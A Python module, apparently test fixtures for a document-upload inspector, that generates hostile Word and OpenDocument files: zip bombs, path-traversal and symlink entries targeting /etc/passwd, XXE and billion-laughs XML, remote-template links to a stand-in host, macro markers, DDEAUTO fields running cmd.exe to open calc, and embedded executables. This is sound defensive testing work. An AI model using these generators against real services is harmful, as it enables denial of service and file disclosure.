"""Hostile Word and OpenDocument files: zip archives with what no writing program packs."""

import io
import struct
import zipfile
import zlib

from submissions.inspection.kinds import TEST_VIRUS

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TYPES = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
TEXT = "application/vnd.oasis.opendocument.text"
REMOTE = ["http://elsewhere.example/x", "https://elsewhere.example/x.dotm", "\\\\elsewhere\\x", "file://elsewhere/x"]


def packed(members, method=zipfile.ZIP_DEFLATED):
    """An archive of [(name or ZipInfo, content)]."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method, compresslevel=9) as archive:
        for name, content in members:
            archive.writestr(name, content)
    return out.getvalue()


def docx(*more, body="<w:p/>", types=TYPES, document=None):
    document = document or f"<w:document {W}><w:body>{body}</w:body></w:document>"
    return packed([("[Content_Types].xml", types), ("word/document.xml", document), *more])


def odt(*more, content="<office:document-content xmlns:office='o'/>", kind=TEXT):
    return packed([("mimetype", kind), ("content.xml", content), *more])


def relations(kind, target, mode="External"):
    each = f'<Relationship Id="r1" Type="{R}/{kind}" Target="{target}" TargetMode="{mode}"/>'
    return f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{each}</Relationships>'


def spaces(megabytes):
    return b"<a>" + b" " * (megabytes * 1_000_000) + b"</a>"


def flat_bomb(rng):
    if rng.random() < 0.5:
        return docx(*[(f"word/media/{number}.bin", spaces(40)) for number in range(rng.randint(6, 8))])
    return docx(("word/styles.xml", spaces(rng.randint(60, 150))))


def overlapping_bomb(rng):
    """Many directory entries that all name the same packed bytes (the flat bomb of 2019)."""
    data = bytearray(docx(("word/media/a", bytes(1_000_000))))
    start = data.rfind(b"PK\1\2")
    entry, end = bytes(data[start : data.rfind(b"PK\5\6")]), bytes(data[data.rfind(b"PK\5\6") :])
    entries = [entry[:-1] + bytes([33 + number]) for number in range(1, rng.randint(20, 80))]
    directory = bytes(data[data.find(b"PK\1\2") : data.rfind(b"PK\5\6")]) + b"".join(entries)
    total = struct.unpack_from("<H", end, 10)[0] + len(entries)
    tail = struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, total, total, len(directory), data.find(b"PK\1\2"), 0)
    return bytes(data[: data.find(b"PK\1\2")]) + directory + tail


def nested_bomb(rng):
    inner = packed([(f"{number}", bytes(9_000_000)) for number in range(4)])
    for _ in range(rng.randint(1, 3)):
        inner = packed([(f"{number}.zip", inner) for number in range(8)])
    return docx((rng.choice(["word/media/a.zip", "word/embeddings/a.xlsx", "word/media/image1.png"]), inner))


def lying_sizes(rng):
    """The directory says a few bytes; the packed bytes are many."""
    data = bytearray(docx(("word/media/a", bytes(rng.randint(5, 9) * 1_000_000))))
    for mark, place in ((b"PK\3\4", 22), (b"PK\1\2", 24)):
        struct.pack_into("<I", data, data.rfind(mark) + place, 100)
    return bytes(data)


def many_entries(rng):
    return docx(*[(f"word/{number}", b"") for number in range(10_000 + rng.randint(0, 99))])


def slip(rng):
    name = rng.choice(["../../evil.xml", "/etc/cron.d/evil", "word/../../../evil", "..\\..\\evil.xml", "C:/evil.xml"])
    return rng.choice([docx, odt])((name, b"<a/>"))


def symlink(rng):
    link = zipfile.ZipInfo("word/media/link")
    link.create_system, link.external_attr = 3, 0o120777 << 16
    return rng.choice([docx, odt])((link, rng.choice(["/etc/passwd", "../../../portal.sqlite3"])))


def duplicates(rng):
    name = rng.choice(["word/document.xml", "WORD/document.XML", "[Content_Types].xml"])
    return docx((name, f"<w:document {W}/>"))


def external_entity(rng):
    target = rng.choice(["file:///etc/passwd", "http://elsewhere.example/x.dtd"])
    kind = rng.choice([f'<!ENTITY x SYSTEM "{target}">', f'<!ENTITY % x SYSTEM "{target}"> %x;'])
    return _declaring(rng, f"<!DOCTYPE a [{kind}]><a>&x;</a>")


def outer_dtd(rng):
    return _declaring(rng, '<!DOCTYPE a SYSTEM "http://elsewhere.example/x.dtd"><a/>')


def billion_laughs(rng):
    lols = "".join(f'<!ENTITY l{n} "{"".join([f"&l{n - 1};"] * 10)}">' for n in range(1, rng.randint(10, 12)))
    return _declaring(rng, f'<!DOCTYPE a [<!ENTITY l0 "lol">{lols}]><a>&l9;</a>')


def _declaring(rng, xml):
    xml = xml if rng.random() < 0.7 else xml.encode("utf-16")
    return rng.choice(
        [docx(("word/styles.xml", xml)), docx(("customXml/item1.xml", xml)), odt(content=xml), odt(("styles.xml", xml))]
    )


def remote_template(rng):
    rels = relations("attachedTemplate", rng.choice(REMOTE))
    return docx(("word/settings.xml", f"<w:settings {W}/>"), ("word/_rels/settings.xml.rels", rels))


def remote_part(rng):
    kind = rng.choice(["image", "frame", "oleObject", "subDocument", "externalLink", "video"])
    return docx(("word/_rels/document.xml.rels", relations(kind, rng.choice(REMOTE))))


def remote_in_odt(rng):
    what = rng.choice(["draw:image", "draw:object", "text:section-source", "meta:template"])
    return odt(content=f'<a><{what} xlink:href="{rng.choice(REMOTE)}"/></a>')


def docm(rng):
    kind = "application/vnd.ms-word.document.macroEnabled.main+xml"
    return docx(types=TYPES.replace("/>", f'><Override PartName="/word/document.xml" ContentType="{kind}"/></Types>'))


def macros(rng):
    return docx((rng.choice(["word/vbaProject.bin", "word/VBAPROJECT.BIN", "word/vbaData.xml"]), b"<a/>"))


def macros_in_odt(rng):
    listener = '<a xmlns:s="s" xmlns:x="x"><s:event-listener x:href="vnd.sun.star.script:a.b?language=Basic"/></a>'
    link = '<a xmlns:t="t" xmlns:x="x"><t:a x:href="vnd.sun.star.script:a.b?language=Python"/></a>'
    return rng.choice(
        [
            odt(("Basic/Standard/Module1.xml", b"<a/>")),
            odt(("Scripts/python/x.py", b"")),
            odt(content=listener),
            odt(content=link),
        ]
    )


def field(*pieces):
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    turn = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'.format
    return turn("begin") + runs + turn("separate") + turn("end")


def dde(rng):
    program = 'c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'
    spelt = field("QUOTE 68 68 69 65 85 84 79") + ""
    turn = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'.format
    bodies = [
        f"<w:p>{field('DDEAUTO ' + program)}</w:p>",
        f"<w:p>{field('DD', 'EAU', 'TO ' + program)}</w:p>",
        f"<w:p>{field(' dde ' + program)}</w:p>",
        f"<w:p><w:fldSimple w:instr='DDE {program}'/></w:p>",
        f"<w:p>{turn('begin')}{spelt}<w:r><w:instrText> {program}</w:instrText></w:r>{turn('end')}</w:p>",
    ]
    if rng.random() < 0.2:
        return odt(content='<a xmlns:o="o"><o:dde-source o:dde-application="soffice"/></a>')
    return docx(body=rng.choice(bodies))


def ole(rng):
    thing = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + rng.randbytes(600)
    return rng.choice(
        [
            docx(("word/embeddings/oleObject1.bin", thing)),
            odt(("Object 1", thing)),
            docx(("word/media/image1.png", thing)),
        ]
    )


def program_inside(rng):
    thing = rng.choice([b"MZ", b"\x7fELF", b"Rar!"]) + rng.randbytes(600)
    return rng.choice([docx, odt])((rng.choice(["word/media/image1.png", "Pictures/x.jpg"]), thing))


def active_x(rng):
    return docx((rng.choice(["word/activeX/activeX1.xml", "word/activeX/activeX1.bin"]), b"<a/>"))


def merged_in(rng):
    """Another format to be merged in when it is opened."""
    name = rng.choice(["word/afchunk.mht", "word/chunk.rtf", "word/page.html"])
    return docx((name, b"x"), ("word/_rels/document.xml.rels", relations("aFChunk", name, "Internal")))


def virus_nested(rng):
    inner = docx(("word/media/a.txt", b"\n" * rng.randint(0, 9) + TEST_VIRUS))
    return rng.choice([inner, odt(("Pictures/a.png", TEST_VIRUS)), docx(("word/embeddings/a.docx", inner))])


def locked_member(rng):
    data = bytearray(docx())
    place = data.rfind(b"PK\1\2")
    data[place + 8] |= 1
    return bytes(data)


def locked_odt(rng):
    manifest = '<manifest><file-entry full-path="content.xml"><encryption-data/></file-entry></manifest>'
    return packed([("mimetype", TEXT), ("META-INF/manifest.xml", manifest), ("content.xml", rng.randbytes(300))])


def locked_docx(rng):
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + rng.randbytes(900) + "EncryptedPackage".encode("utf-16-le") + bytes(99)


def damaged_member(rng):
    data = bytearray(docx(("word/media/a.bin", rng.randbytes(4000))))
    place = data.find(b"word/media/a.bin") + rng.randint(100, 3000)
    data[place] ^= 0xFF
    return bytes(data)


def packed_picture_bomb(rng):
    packer = zlib.compressobj(9, wbits=31)
    return docx(("word/media/image1.emz", packer.compress(bytes(60_000_000)) + packer.flush()))
